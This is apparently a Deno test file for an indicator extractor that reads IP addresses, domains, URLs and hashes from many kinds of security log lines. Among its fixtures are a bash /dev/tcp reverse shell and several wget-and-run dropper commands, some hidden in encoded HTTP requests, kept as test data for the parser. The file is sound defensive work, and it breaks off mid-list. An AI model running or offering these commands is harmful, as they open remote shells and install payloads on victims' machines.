import { deepEqual } from "../assert.ts";
import { readList } from "../../lib/pasted/read_list.ts";

/** What is asked of a text; `?` for what cannot be read. */
function askedOf(text: string): string[] {
  return readList(text).values.map((each) =>
    "meaning" in each ? `${each.meaning.normal.subType} ${each.meaning.normal.data}` : "?"
  );
}

const LINES: [log: string, line: string, wanted: string[]][] = [
  [
    "Cisco ASA, a connection built",
    "Nov 28 2026 10:00:01 fw : %ASA-6-302013: Built outbound TCP connection 123456 for outside:203.0.113.153/443 (203.0.113.153/443) to inside:10.0.0.5/51234 (198.51.100.2/51234)",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "ipv4 198.51.100.2"],
  ],
  [
    "Cisco ASA, a packet denied by a list",
    `%ASA-4-106023: Deny tcp src outside:203.0.113.153/4444 dst inside:10.0.0.5/22 by access-group "outside_in" [0x0, 0x0]`,
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Cisco ASA, an access list",
    "%ASA-6-106100: access-list inside permitted tcp inside/10.0.0.5(51234) -> outside/203.0.113.153(443) hit-cnt 1 first hit [0x0, 0x0]",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "Cisco ASA, a translation",
    "%ASA-6-305011: Built dynamic TCP translation from inside:10.0.0.5/1234 to outside:203.0.113.153/1234",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "Cisco ASA, a URL",
    "%ASA-5-304001: 10.0.0.5 Accessed URL 203.0.113.153:/bins/x86",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "url 203.0.113.153/bins/x86"],
  ],
  [
    "Cisco ASA, a session",
    "%ASA-4-113019: Group = VPN, Username = ann, IP = 203.0.113.153, Session disconnected.",
    ["ipv4 203.0.113.153"],
  ],
  [
    "Cisco ASA, a connection denied",
    "%ASA-2-106001: Inbound TCP connection denied from 203.0.113.153/4444 to 10.0.0.5/22 flags SYN on interface outside",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Cisco ASA, IPv6",
    "%ASA-6-302013: Built inbound TCP connection 9 for outside:2001:db8::5/443 (2001:db8::5/443) to inside:2001:db8:1::9/51234 (2001:db8:1::9/51234)",
    ["ipv6 2001:db8::5", "ipv6 2001:db8:1::9"],
  ],
  [
    "Cisco ASA, access denied",
    "%ASA-3-710003: TCP access denied by ACL from 203.0.113.153/54321 to outside:198.51.100.2/443",
    ["ipv4 203.0.113.153", "ipv4 198.51.100.2"],
  ],
  [
    "Cisco IOS",
    "%SEC-6-IPACCESSLOGP: list 101 denied tcp 203.0.113.153(4444) -> 10.0.0.5(22), 1 packet",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Cisco FTD",
    "%FTD-1-430002: AccessControlRuleAction: Block, SrcIP: 203.0.113.153, DstIP: 10.0.0.5, SrcPort: 5, DstPort: 22, URL: http://evil.example/a",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "url http://evil.example/a"],
  ],
  [
    "Squid",
    "1764410000.123    200 10.0.0.5 TCP_MISS/200 1234 GET http://evil.example/a?b=1 - HIER_DIRECT/203.0.113.153 text/html",
    ["ipv4 10.0.0.5", "url http://evil.example/a?b=1", "ipv4 203.0.113.153"],
  ],
  [
    "Squid, by a parent",
    "1764410000.123    200 10.0.0.5 TCP_MISS/200 12 GET http://evil.example/x ann FIRSTUP_PARENT/proxy.example text/html",
    ["ipv4 10.0.0.5", "url http://evil.example/x", "domain proxy.example"],
  ],
  [
    "SonicWall",
    `<134> id=firewall sn=0017C5 time="2026-11-28 10:00:01" fw=198.51.100.2 pri=6 c=262144 m=98 msg="Connection Opened" n=1 src=203.0.113.153:443:X1 dst=10.0.0.5:51234:X0:host.lan proto=tcp/443`,
    ["ipv4 198.51.100.2", "ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "FortiGate",
    `date=2026-11-28 time=10:00:01 devname="FGT" type="traffic" srcip=203.0.113.153 srcport=443 dstip=10.0.0.5 dstport=22 hostname="evil.example" url="/gate.php?id=1" action="deny"`,
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "domain evil.example"],
  ],
  [
    "Palo Alto, traffic",
    "1,2026/11/28 10:00:01,001606001116,TRAFFIC,end,1,2026/11/28 10:00:01,10.0.0.5,203.0.113.153,0.0.0.0,0.0.0.0,rule1,,,web-browsing,vsys1,trust,untrust,ethernet1/2,ethernet1/1,fwd,2026/11/28 10:00:01,1234,1,51234,443,0,0,0x19,tcp,allow",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "ipv4 0.0.0.0"],
  ],
  [
    "Palo Alto, a threat",
    `1,2026/11/28 10:00:01,001,THREAT,url,1,2026/11/28 10:00:01,10.0.0.5,203.0.113.153,0.0.0.0,0.0.0.0,rule1,,,web-browsing,vsys1,trust,untrust,e1/2,e1/1,fwd,2026/11/28 10:00:01,1,1,5,80,0,0,0x,tcp,block-url,"evil.example/gate.php?id=1",(9999),malware,informational`,
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "ipv4 0.0.0.0", "url evil.example/gate.php?id=1"],
  ],
  [
    "iptables",
    "Nov 28 10:00:01 host kernel: [UFW BLOCK] IN=eth0 OUT= MAC=00:00:5e:00:53:01:00:00:5e:00:53:02:08:00 SRC=203.0.113.153 DST=10.0.0.5 LEN=40 TOS=0x00 PREC=0x00 TTL=245 ID=1 PROTO=TCP SPT=443 DPT=22",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "iptables, IPv6",
    "IN=eth0 OUT= SRC=2001:0db8:0000:0000:0000:0000:0000:0005 DST=2001:0db8:0001:0000:0000:0000:0000:0009 LEN=40",
    ["ipv6 2001:db8::5", "ipv6 2001:db8:1::9"],
  ],
  [
    "tcpdump",
    "10:00:01.123456 IP 203.0.113.153.443 > 10.0.0.5.51234: Flags [S.], seq 1, ack 2, win 65535, length 0",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "tcpdump, IPv6",
    "10:00:01.123456 IP6 2001:db8::5.443 > 2001:db8::9.51234: Flags [S], length 0",
    ["ipv6 2001:db8::5", "ipv6 2001:db8::9"],
  ],
  [
    "tcpdump, a question to a name server",
    "10:00:01.1 IP 10.0.0.5.5353 > 203.0.113.153.domain: 1+ A? evil.example. (30)",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "domain evil.example"],
  ],
  [
    "tcpdump, ICMP",
    "10:00:01.1 IP 10.0.0.5 > 203.0.113.153: ICMP echo request, id 1, seq 1, length 64",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "tcpdump, names of ports",
    "10:00:01.1 IP 203.0.113.153.https > 10.0.0.5.51234: Flags [.]",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "tcpdump, ARP",
    "10:00:01.1 ARP, Request who-has 203.0.113.153 tell 10.0.0.5, length 28",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "arrow",
    "203.0.113.153->10.0.0.5",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "arrow2",
    "203.0.113.153:443->10.0.0.5:51234",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "arrow3",
    "evil-misp.example->203.0.113.153",
    ["domain evil-misp.example", "ipv4 203.0.113.153"],
  ],
  [
    "arrow4",
    "10.0.0.5 -> 203.0.113.153 TCP 66 443 → 51234 [SYN]",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "arrow5",
    "203.0.113.153→10.0.0.5",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "arrow6",
    "203.0.113.153=>10.0.0.5",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "arrow7",
    "10.0.0.5<->203.0.113.153",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "arrow8",
    "10.0.0.5<-203.0.113.153:80",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "arrow9",
    "tcp 203.0.113.153:443-->10.0.0.5:9",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "an address and a port",
    "203.0.113.153/4444",
    ["ipv4 203.0.113.153"],
  ],
  [
    "addresses and ports",
    "conn 203.0.113.153/443 10.0.0.5/22",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "nginx",
    `203.0.113.153 - - [28/Nov/2026:10:00:01 +0000] "GET /gate.php?u=http://evil.example/x HTTP/1.1" 200 12 "http://ref.example/a" "Mozilla/5.0"`,
    ["ipv4 203.0.113.153", "url http://evil.example/x", "url http://ref.example/a"],
  ],
  [
    "nginx, an error",
    `2026/11/28 10:00:01 [error] 1#1: *5 open() "/var/www/x" failed (2: No such file), client: 203.0.113.153, server: www.victim.example, request: "GET /x HTTP/1.1", upstream: "http://10.0.0.5:8080/x", host: "www.victim.example"`,
    ["ipv4 203.0.113.153", "domain www.victim.example", "url http://10.0.0.5:8080/x"],
  ],
  [
    "Apache, an error",
    "[Sat Nov 28 10:00:01.1 2026] [core:error] [pid 1] [client 203.0.113.153:51234] AH00126: Invalid URI",
    ["ipv4 203.0.113.153"],
  ],
  [
    "Apache, with its name",
    `www.victim.example:443 203.0.113.153 - - [28/Nov/2026:10:00:01 +0000] "GET / HTTP/1.1" 200 1 "-" "curl/7"`,
    ["domain www.victim.example", "ipv4 203.0.113.153"],
  ],
  [
    "HAProxy",
    `Nov 28 10:00:01 lb haproxy[1]: 203.0.113.153:51234 [28/Nov/2026:10:00:01.123] http-in web/srv1 0/0/1/2/3 200 1 - - ---- 1/1/1/1/0 0/0 {evil.example|} "GET /x HTTP/1.1"`,
    ["ipv4 203.0.113.153", "domain evil.example"],
  ],
  [
    "AWS ALB",
    `https 2026-11-28T10:00:01Z app/lb/1 203.0.113.153:2817 10.0.0.5:80 0.0 0.0 0.0 200 200 3 5 "GET https://www.victim.example:443/x HTTP/1.1" "curl" ECDHE TLSv1.2`,
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "url https://www.victim.example:443/x"],
  ],
  [
    "AWS VPC flow",
    "2 123456789010 eni-1235b8ca 203.0.113.153 10.0.0.5 443 51234 6 20 4249 1418530010 1418530070 ACCEPT OK",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Suricata, fast.log",
    "11/28/2026-10:00:01.123456  [**] [1:2000001:1] ET MALWARE [**] [Classification: A] [Priority: 1] {TCP} 203.0.113.153:443 -> 10.0.0.5:51234",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Snort, IPv6",
    "{TCP} 2001:db8::5:443 -> 2001:db8::9:51234",
    ["ipv6 2001:db8::5:443", "ipv6 2001:db8::5", "ipv6 2001:db8::9"],
  ],
  [
    "sshd, a password",
    "Nov 28 10:00:01 host sshd[1]: Failed password for invalid user admin from 203.0.113.153 port 51234 ssh2",
    ["ipv4 203.0.113.153"],
  ],
  [
    "sshd, a connection",
    "Nov 28 10:00:01 host sshd[1]: Connection closed by authenticating user root 203.0.113.153 port 51234 [preauth]",
    ["ipv4 203.0.113.153"],
  ],
  [
    "sshd, PAM",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.153  user=root",
    ["ipv4 203.0.113.153"],
  ],
  [
    "sshd, a name",
    "reverse mapping checking getaddrinfo for evil.example [203.0.113.153] failed - POSSIBLE BREAK-IN ATTEMPT!",
    ["domain evil.example", "ipv4 203.0.113.153"],
  ],
  [
    "fail2ban",
    "2026-11-28 10:00:01,123 fail2ban.actions [1]: NOTICE [sshd] Ban 203.0.113.153",
    ["ipv4 203.0.113.153"],
  ],
  [
    "Sysmon",
    "Network connection detected: SourceIp: 10.0.0.5 DestinationIp: 203.0.113.153 DestinationHostname: evil.example Hashes: MD5=a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1,SHA256=b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2,IMPHASH=c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3",
    [
      "ipv4 10.0.0.5",
      "ipv4 203.0.113.153",
      "domain evil.example",
      "md5 a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1",
      "sha256 b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2",
      "imphash c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3",
    ],
  ],
  [
    "Windows firewall",
    "2026-11-28 10:00:01 DROP TCP 203.0.113.153 10.0.0.5 51234 22 0 - 0 0 0 - - - RECEIVE",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "IIS",
    "2026-11-28 10:00:01 10.0.0.5 GET /x.aspx id=1 443 - 203.0.113.153 Mozilla/5.0 https://ref.example/ 200 0 0 15",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "url https://ref.example/"],
  ],
  [
    "CEF",
    "CEF:0|Vendor|Product|1.0|100|Malware http://evil.example/a|10|src=203.0.113.153 dst=10.0.0.5 spt=443 request=http://evil.example/gate.php?id=1&x=7 fileHash=a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1",
    [
      "url http://evil.example/a",
      "ipv4 203.0.113.153",
      "ipv4 10.0.0.5",
      "url http://evil.example/gate.php?id=1&x=7",
      "md5 a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1",
    ],
  ],
  [
    "CEF behind syslog",
    "Nov 28 10:00:01 h CEF:0|V|P|1|1|x|3|src=203.0.113.153 dhost=evil.example suser=ann@victim.example cs1=203.0.113.154/443",
    [
      "ipv4 203.0.113.153",
      "domain evil.example",
      "email_addr ann@victim.example",
      "ipv4 203.0.113.154",
    ],
  ],
  [
    "LEEF 1.0",
    "LEEF:1.0|V|P|1|100|src=203.0.113.153\tdst=10.0.0.5\tsrcPort=443\turl=http://evil.example/a",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "url http://evil.example/a"],
  ],
  [
    "LEEF 2.0",
    "LEEF:2.0|V|P|1|100|^|src=203.0.113.153^dst=10.0.0.5^url=http://evil.example/a",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "url http://evil.example/a"],
  ],
  [
    "LEEF 2.0, bars",
    "LEEF:2.0|V|P|1|100|x09|src=203.0.113.153|dst=10.0.0.5",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "nfdump",
    "2026-11-28 10:00:01.000 0.000 TCP 203.0.113.153:443 -> 10.0.0.5:51234 12 1234 1",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Argus",
    "10:00:01.1 e tcp 203.0.113.153.443 -> 10.0.0.5.51234 5 400 CON",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "netstat",
    "tcp        0      0 10.0.0.5:22   203.0.113.153:51234   ESTABLISHED 1/sshd",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "netstat of BSD",
    "tcp4       0      0  10.0.0.5.51234     203.0.113.153.443    ESTABLISHED",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "ss, IPv6",
    `ESTAB 0 0 [2001:db8::9]:22 [2001:db8::5]:51234 users:(("sshd",pid=1,fd=3))`,
    ["ipv6 2001:db8::9", "ipv6 2001:db8::5"],
  ],
  [
    "ss, IPv4 as IPv6",
    "ESTAB 0 0 [::ffff:10.0.0.5]:22 [::ffff:203.0.113.153]:51234",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "lsof",
    "sshd 1 root 3u IPv4 1 0t0 TCP 10.0.0.5:ssh->203.0.113.153:51234 (ESTABLISHED)",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "conntrack",
    "tcp 6 431999 ESTABLISHED src=203.0.113.153 dst=10.0.0.5 sport=51234 dport=22 src=10.0.0.5 dst=203.0.113.153 sport=22 dport=51234 [ASSURED]",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "pf",
    "rule 5/0(match): block in on em0: 203.0.113.153.4444 > 10.0.0.5.22: Flags [S]",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "pfSense",
    "filterlog: 5,,,1000000103,em0,match,block,in,4,0x0,,64,1,0,DF,6,tcp,60,203.0.113.153,10.0.0.5,4444,22,0,S,1,,64240,,mss",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Check Point",
    `action:"Drop"; src:"203.0.113.153"; dst:"10.0.0.5"; service:"443"; origin:"198.51.100.2"`,
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "ipv4 198.51.100.2"],
  ],
  [
    "Juniper, a session",
    "RT_FLOW_SESSION_CREATE: session created 203.0.113.153/4444->10.0.0.5/22 0x0 junos-ssh 203.0.113.153/4444->10.0.0.5/22",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Juniper, structured",
    `RT_FLOW_SESSION_DENY [junos@2636.1.1.1.2.129 source-address="203.0.113.153" source-port="4444" destination-address="10.0.0.5"]`,
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "MikroTik",
    "firewall,info input: in:ether1 out:(unknown 0), src-mac 00:00:5e:00:53:01, proto TCP (SYN), 203.0.113.153:4444->10.0.0.5:22, len 40",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "mac_addr 00:00:5e:00:53:01"],
  ],
  [
    "BIND, a query",
    "client @0x7f 10.0.0.5#51234 (evil.example): query: evil.example IN A +E(0)K (10.0.0.1)",
    ["ipv4 10.0.0.5", "domain evil.example", "ipv4 10.0.0.1"],
  ],
  [
    "BIND, a query denied",
    "client 203.0.113.153#53: query (cache) 'evil.example/A/IN' denied",
    ["ipv4 203.0.113.153", "domain evil.example"],
  ],
  [
    "dnsmasq",
    "dnsmasq[1]: reply evil.example is 203.0.113.153",
    ["domain evil.example", "ipv4 203.0.113.153"],
  ],
  [
    "unbound",
    "[1764410000] unbound[1:0] info: 10.0.0.5 evil.example. A IN",
    ["ipv4 10.0.0.5", "domain evil.example"],
  ],
  [
    "Postfix, a client",
    "postfix/smtpd[1]: connect from unknown[203.0.113.153]:4444",
    ["ipv4 203.0.113.153"],
  ],
  [
    "Postfix, rejected",
    "postfix/smtpd[1]: NOQUEUE: reject: RCPT from evil.example[203.0.113.153]: 554; from=<ann@evil.example> to=<bob@victim.example> proto=ESMTP helo=<helo.example>",
    [
      "domain evil.example",
      "ipv4 203.0.113.153",
      "email_addr ann@evil.example",
      "email_addr bob@victim.example",
      "domain helo.example",
    ],
  ],
  [
    "Postfix, a relay",
    "postfix/smtp[1]: 3AB: to=<bob@victim.example>, relay=mx.evil.example[203.0.113.153]:25, delay=1",
    ["email_addr bob@victim.example", "domain mx.evil.example", "ipv4 203.0.113.153"],
  ],
  [
    "Exim",
    "2026-11-28 10:00:01 H=(helo.example) [203.0.113.153]:4444 I=[10.0.0.5]:25 F=<ann@evil.example> rejected",
    ["domain helo.example", "ipv4 203.0.113.153", "ipv4 10.0.0.5", "email_addr ann@evil.example"],
  ],
  [
    "Received of a mail",
    "Received: from evil.example (unknown [203.0.113.153]) by mx.victim.example (Postfix) with ESMTP id 3AB",
    ["domain evil.example", "ipv4 203.0.113.153", "domain mx.victim.example"],
  ],
  [
    "Received-SPF of a mail",
    "Received-SPF: fail (client-ip=203.0.113.153; envelope-from=ann@evil.example; helo=helo.example)",
    ["ipv4 203.0.113.153", "email_addr ann@evil.example", "domain helo.example"],
  ],
  [
    "dovecot",
    "dovecot: imap-login: Disconnected: user=<ann>, method=PLAIN, rip=203.0.113.153, lip=10.0.0.5, TLS",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "vsftpd",
    `CONNECT: Client "::ffff:203.0.113.153"`,
    ["ipv4 203.0.113.153"],
  ],
  [
    "OpenVPN",
    "203.0.113.153:4444 TLS: Initial packet from [AF_INET]203.0.113.153:4444, sid=1",
    ["ipv4 203.0.113.153"],
  ],
  [
    "OpenVPN, IPv6",
    "TCP connection established with [AF_INET6]::ffff:203.0.113.153:4444",
    ["ipv4 203.0.113.153"],
  ],
  [
    "strongSwan",
    "13[NET] received packet: from 203.0.113.153[500] to 10.0.0.5[500] (1 bytes)",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "MySQL",
    "Access denied for user 'root'@'203.0.113.153' (using password: YES)",
    ["ipv4 203.0.113.153"],
  ],
  [
    "PostgreSQL",
    "connection received: host=203.0.113.153 port=51234",
    ["ipv4 203.0.113.153"],
  ],
  [
    "a user and an address",
    "su: ann@203.0.113.153 logged in",
    ["ipv4 203.0.113.153"],
  ],
  [
    "scp",
    "scp root@203.0.113.153:/tmp/x .",
    ["ipv4 203.0.113.153"],
  ],
  [
    "git",
    "git@203.0.113.153:evil/repo.git",
    ["ipv4 203.0.113.153"],
  ],
  [
    "a Windows share",
    "\\\\203.0.113.153\\share\\x.exe",
    ["ipv4 203.0.113.153"],
  ],
  [
    "traefik",
    `203.0.113.153 - ann [28/Nov/2026:10:00:01 +0000] "GET / HTTP/2.0" 200 1 "-" "-" 1 "r@docker" "http://10.0.0.5:80" 1ms`,
    ["ipv4 203.0.113.153", "url http://10.0.0.5:80"],
  ],
  [
    "Docker",
    "Error response: dial tcp 10.0.0.5:51234->203.0.113.153:443: i/o timeout",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "Go",
    "read tcp 10.0.0.5:51234->203.0.113.153:443: read: connection reset by peer",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153"],
  ],
  [
    "Java, a name and an address",
    "java.net.ConnectException: Failed to connect to evil.example/203.0.113.153:443",
    ["domain evil.example", "ipv4 203.0.113.153"],
  ],
  [
    "Java, an address",
    "remote=/203.0.113.153:4444 local=/10.0.0.5:80",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "traceroute",
    " 5  evil.example (203.0.113.153)  1.2 ms",
    ["domain evil.example", "ipv4 203.0.113.153"],
  ],
  [
    "nmap",
    "Nmap scan report for evil.example (203.0.113.153)",
    ["domain evil.example", "ipv4 203.0.113.153"],
  ],
  [
    "X-Forwarded-For",
    "X-Forwarded-For: 203.0.113.153,10.0.0.5",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Forwarded",
    "Forwarded: for=203.0.113.153;proto=http;by=10.0.0.5",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "Forwarded, IPv6",
    `Forwarded: for="[2001:db8::5]:4711"`,
    ["ipv6 2001:db8::5"],
  ],
  [
    "auditd",
    "type=USER_LOGIN msg=audit(1.1:1): pid=1 addr=203.0.113.153 terminal=ssh res=failed hostname=evil.example",
    ["ipv4 203.0.113.153", "domain evil.example"],
  ],
  [
    "wireshark",
    "1 0.000000 203.0.113.153 10.0.0.5 TCP 66 443 > 51234 [SYN, ACK]",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "tshark",
    "Internet Protocol Version 4, Src: 203.0.113.153, Dst: 10.0.0.5",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "brackets",
    "[203.0.113.153]:443 <203.0.113.154>",
    ["ipv4 203.0.113.153", "ipv4 203.0.113.154"],
  ],
  [
    "an address, # and a port",
    "203.0.113.153#53",
    ["ipv4 203.0.113.153"],
  ],
  [
    "an address, a port and a protocol",
    "203.0.113.153:443/tcp",
    ["ipv4 203.0.113.153"],
  ],
  [
    "a protocol, an address and a port",
    "tcp/203.0.113.153/443",
    ["ipv4 203.0.113.153"],
  ],
  [
    "an interface and an address",
    "outside@203.0.113.153",
    ["ipv4 203.0.113.153"],
  ],
  [
    "Cisco ASA, a user behind the port",
    "Teardown UDP connection for outside:203.0.113.153/53(LOCAL\\ann) to inside:10.0.0.5/5 (ann)",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "sophos",
    `srcip="203.0.113.153" dstip="10.0.0.5" url="http://evil.example/x?a=1" `,
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "url http://evil.example/x?a=1"],
  ],
  [
    "watchguard",
    "Deny 0-External Firebox 203.0.113.153 10.0.0.5 4444/udp 53 22 0x tcp",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "barracuda",
    "TCP: 203.0.113.153:4444 -> 10.0.0.5:22|eth0|0",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5"],
  ],
  [
    "bars",
    "Block|TCP|eth0|203.0.113.153|4444|10.0.0.5|22|evil.example",
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "domain evil.example"],
  ],
  ["a reverse shell", "bash -i >& /dev/tcp/203.0.113.153/4444 0>&1", ["ipv4 203.0.113.153"]],
  ["a dropper", "cd /tmp;wget http://203.0.113.153/x;chmod 777 x;./x", [
    "url http://203.0.113.153/x",
  ]],
  ["a dropper in a request", "GET /shell?cd+/tmp;wget+http://203.0.113.153/x+-O+y;sh+y HTTP/1.1", [
    "url http://203.0.113.153/x",
  ]],
  [
    "a dropper in an encoded request",
    '"POST /x?c=wget%20http://203.0.113.153/x%20-O%20y%3Bsh%20y HTTP/1.1"',
    ["url http://203.0.113.153/x"],
  ],
  ["a dropper without blanks", "wget${IFS}http://203.0.113.153/x&&sh${IFS}x", [
    "url http://203.0.113.153/x",
  ]],
  ["an encoded URL in a request", '"GET /x?u=http%3A%2F%2Fevil.example%2Fa&b=1 HTTP/1.1"', [
    "url http://evil.example/a",
  ]],
  ["tcpdump, without blanks", "203.0.113.153.4444>10.0.0.5.22", [
    "ipv4 203.0.113.153",
    "ipv4 10.0.0.5",
  ]],
  ["both ends beside a slash", "TCP 203.0.113.153:4444/10.0.0.5:22", [
    "ipv4 203.0.113.153",
    "ipv4 10.0.0.5",
  ]],
  ["names and their ports", "TCP 10.0.0.5:ssh->evil.example:https", [
    "ipv4 10.0.0.5",
    "domain evil.example",
  ]],
  ["tcpdump, names", "10:00:01.1 IP evil.example.https > 10.0.0.5.51234: Flags [.]", [
    "domain evil.example",
    "ipv4 10.0.0.5",
  ]],
  ["an address and a number that may be either", "inet 192.0.2.7/24 scope global eth0", [
    "ipv4_net 192.0.2.0/24",
    "ipv4 192.0.2.7",
  ]],
  ["a defanged address with a port", "C2 at 192.0.2[.]7/8443", ["ipv4 192.0.2.7"]],
  ["the name of a file of packets", "conn_203.0.113.153_443-10.0.0.5_22.pcap", [
    "ipv4 203.0.113.153",
    "ipv4 10.0.0.5",
  ]],
  ["an address as the path behind a name", "evil.example/203.0.113.153", [
    "url evil.example/203.0.113.153",
    "domain evil.example",
    "ipv4 203.0.113.153",
  ]],
];
for (const [log, line, wanted] of LINES) {
  Deno.test(`readList reads a line of a log: ${log}`, () => {
    deepEqual(askedOf(line), wanted);
    deepEqual(askedOf(`These are my notes.\n${line}\nThat was all.`), wanted);
  });
}

const SHA256 = "585b410d25075fe619191b9ec0fca628ba0448c7d51a83c002a3dc36c18209b6";
for (const line of [`${SHA256}.exe`, `-rw-r--r-- 1 c c 5 Nov 28 dl/${SHA256}.tar.gz`]) {
  Deno.test(`readList reads the hash by which a file is called: ${line}`, () => {
    deepEqual(askedOf(line), [`sha256 ${SHA256}`]);
  });
}

const WHOLE: [about: string, line: string, wanted: string[]][] = [
  ["networks", "blocked 192.0.2.0/24 and 2001:db8::/32", [
    "ipv4_net 192.0.2.0/24",
    "ipv6_net 2001:db8::/32",
  ]],
  ["a network with host bits", "192.0.2.7/24", ["ipv4_net 192.0.2.0/24"]],
  ["ranges", "192.0.2.0-192.0.2.255 is theirs", ["ipv4_net 192.0.2.0/24"]],
  ["networks with masks", "route 192.0.2.0 255.255.255.0", ["ipv4_net 192.0.2.0/24"]],
  ["URLs with addresses in them", "http://203.0.113.9/443?ip=198.51.100.7:80 was seen", [
    "url http://203.0.113.9/443?ip=198.51.100.7:80",
  ]],
  ["URLs without a scheme", "evil.example/x?ip=198.51.100.7:443&b=1 was seen", [
    "url evil.example/x?ip=198.51.100.7:443&b=1",
  ]],
  ["URLs with semicolons, bars and plus signs", "http://a.example/x;v=1?q=a+b&&c=d was seen", [
    "url http://a.example/x;v=1?q=a+b&&c=d",
  ]],
  ["URLs at an address", "203.0.113.9:8080/gate.php?x=198.51.100.7 was seen", [
    "url 203.0.113.9:8080/gate.php?x=198.51.100.7",
  ]],
  ["defanged URLs", "hxxp://203.0.113[.]9:443 was seen", ["url http://203.0.113.9:443"]],
  ["URLs with a hash in them", `seen: evil.example/a/${SHA256}.exe`, [
    `url evil.example/a/${SHA256}.exe`,
  ]],
  ["domains with a hash in them", `seen: ${SHA256.slice(0, 32)}.example.com`, [
    `domain ${SHA256.slice(0, 32)}.example.com`,
  ]],
  ["names that begin with numbers", "PTR of 203.0.113.9.in-addr.arpa", [
    "domain 203.0.113.9.in-addr.arpa",
  ]],
  ["versions of programs", '192.0.2.7 "Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0"', [
    "ipv4 192.0.2.7",
  ]],
  ["object identifiers", "192.0.2.7 sent 1.3.6.1.4.1.2636 and foo-1.2.3.4.tar.gz", [
    "ipv4 192.0.2.7",
  ]],
  ["hardware addresses and times", "10:00:01 00:00:5e:00:53:01 sent", [
